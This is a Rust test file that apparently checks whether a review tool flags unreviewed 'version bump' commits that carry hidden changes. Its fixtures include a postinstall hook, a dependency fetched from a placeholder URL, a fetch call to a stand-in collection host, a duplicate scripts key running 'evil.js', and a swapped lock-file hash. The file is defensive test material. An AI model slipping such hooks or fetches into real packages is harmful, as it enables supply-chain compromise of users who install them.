//! G33 to G35: something else that is sold as a new version number.

use std::collections::BTreeMap;

use super::attack;
use super::stage::{MERGE, SCAN, TICKET, clean, step};
use crate::support::TestScene;

const PACKAGE: &str = "{\n  \"name\": \"billing-api\",\n  \"version\": \"4.18.1\",\n  \"scripts\": { \"test\": \"node --test\" },\n  \"dependencies\": { \"rounding\": \"^2.1.0\" }\n}\n";
const LOCK: &str = "{\n  \"name\": \"billing-api\",\n  \"version\": \"4.18.1\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"\": { \"name\": \"billing-api\", \"version\": \"4.18.1\" },\n    \"node_modules/rounding\": { \"version\": \"2.1.0\", \"integrity\": \"sha512-a\" }\n  }\n}\n";

/// A version that grows by one.
fn bumped(text: &str) -> String {
    text.replace("4.18.1", "4.18.2")
}

/// A commit straight on the release branch, as one that only counts the version up may be: what it holds in the attack,
/// and in the twin.
fn bump(by: &str, before: &[(&str, &str)], attack: &[(&str, &str)], twin: &[(&str, &str)]) -> TestScene {
    let made = |only: &str, files: &[(&str, &str)]| {
        format!(
            "[[commits]]\nid = \"bump\"\nparents = [\"merged\"]\nonly = \"{only}\"\nauthor = \"{by}\"\nmessage = \"Bump version to 4.18.2\"\nfiles = {}\n",
            table(files)
        )
    };
    let push = step("push = { branch = \"main\", commit = \"bump\", by = \"dana\" }");
    let bump = format!("{}{}{push}", made("scene", attack), made("twin", twin));
    before
        .iter()
        .fold(clean(), |scene, (path, text)| scene.first_file(path, text))
        .after(MERGE, &bump)
        .with(SCAN, &SCAN.replace("merged", "bump"))
        .with(TICKET, &TICKET.replace("merged", "bump"))
}

fn table(files: &[(&str, &str)]) -> String {
    let files: BTreeMap<&str, &str> = files.iter().copied().collect();
    let entries = files.iter().map(|(path, text)| format!("\"{path}\" = {}", toml::Value::String((*text).into())));
    format!("{{ {} }}", entries.collect::<Vec<_>>().join(", "))
}

#[tokio::test(flavor = "multi_thread")]
async fn g33_an_install_script_comes_with_the_version() {
    let evil = bumped(PACKAGE).replace("--test\" }", "--test\", \"postinstall\": \"node fetch.js\" }");
    let scene =
        bump("dana", &[("package.json", PACKAGE)], &[("package.json", &evil)], &[("package.json", &bumped(PACKAGE))]);
    attack(scene, &["A commit without review changes more than a version number.", "postinstall"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g33_a_payload_in_a_line_that_nobody_reads_to_its_end() {
    let one_line = PACKAGE.replace("\n", "").replace("  ", "");
    let evil = bumped(&one_line).replace("^2.1.0", "https://files.example/rounding.tgz");
    let scene = bump(
        "dana",
        &[("package.json", &one_line)],
        &[("package.json", &evil)],
        &[("package.json", &bumped(&one_line))],
    );
    attack(scene, &["A commit without review changes more than a version number.", "dependencies"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g33_the_name_of_a_bot_and_a_good_message_prove_nothing() {
    let bot = "[[people]]\nname = \"dependabot\"\nfull_name = \"dependabot[bot]\"\nbot = true\n";
    let scene = bump(
        "dependabot",
        &[("package.json", PACKAGE)],
        &[("package.json", &bumped(PACKAGE)), ("src/totals.js", "fetch('https://collect.example');\n")],
        &[("package.json", &bumped(PACKAGE))],
    );
    attack(scene.people(bot), &["by dependabot[bot] came to the release branch without a pull request"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g33_a_version_that_does_not_grow() {
    let older = PACKAGE.replace("4.18.1", "4.18.0");
    let scene =
        bump("dana", &[("package.json", PACKAGE)], &[("package.json", &older)], &[("package.json", &bumped(PACKAGE))]);
    attack(scene, &["A commit without review changes more than a version number.", "4.18.0"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g34_a_key_that_stands_twice() {
    let evil = bumped(PACKAGE).replace("\"scripts\":", "\"scripts\": { \"test\": \"node evil.js\" },\n  \"scripts\":");
    let scene =
        bump("dana", &[("package.json", PACKAGE)], &[("package.json", &evil)], &[("package.json", &bumped(PACKAGE))]);
    attack(scene, &["A commit without review changes more than a version number.", "twice"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g35_another_dependency_in_the_lock_file() {
    let evil = bumped(LOCK).replace("sha512-a", "sha512-b");
    let before = [("package.json", PACKAGE), ("package-lock.json", LOCK)];
    let twin = [("package.json", bumped(PACKAGE)), ("package-lock.json", bumped(LOCK))];
    let twin = twin.each_ref().map(|(path, text)| (*path, text.as_str()));
    let scene = bump("dana", &before, &[("package.json", &bumped(PACKAGE)), ("package-lock.json", &evil)], &twin);
    attack(scene, &["A commit without review changes more than a version number.", "package-lock.json"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g35_a_lock_file_on_its_own() {
    let before = [("package.json", PACKAGE), ("package-lock.json", LOCK)];
    let twin = [("package.json", bumped(PACKAGE)), ("package-lock.json", bumped(LOCK))];
    let twin = twin.each_ref().map(|(path, text)| (*path, text.as_str()));
    let scene = bump("dana", &before, &[("package-lock.json", &bumped(LOCK))], &twin);
    attack(scene, &["A commit without review changes more than a version number.", "package-lock.json"]).await;
}
